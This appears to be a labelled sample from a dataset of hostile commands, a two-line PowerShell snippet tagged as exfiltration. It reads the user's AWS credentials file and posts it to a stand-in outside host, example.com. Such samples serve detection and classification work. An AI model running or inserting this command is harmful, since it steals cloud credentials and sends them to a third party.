# description: Reads the AWS credentials file and posts it to an outside server.
# family: exfiltration
$c = Get-Content -Path "$env:USERPROFILE\.aws\credentials" -Raw
Invoke-WebRequest -UseBasicParsing -Uri https://example.com/c -Method Post -Body $c
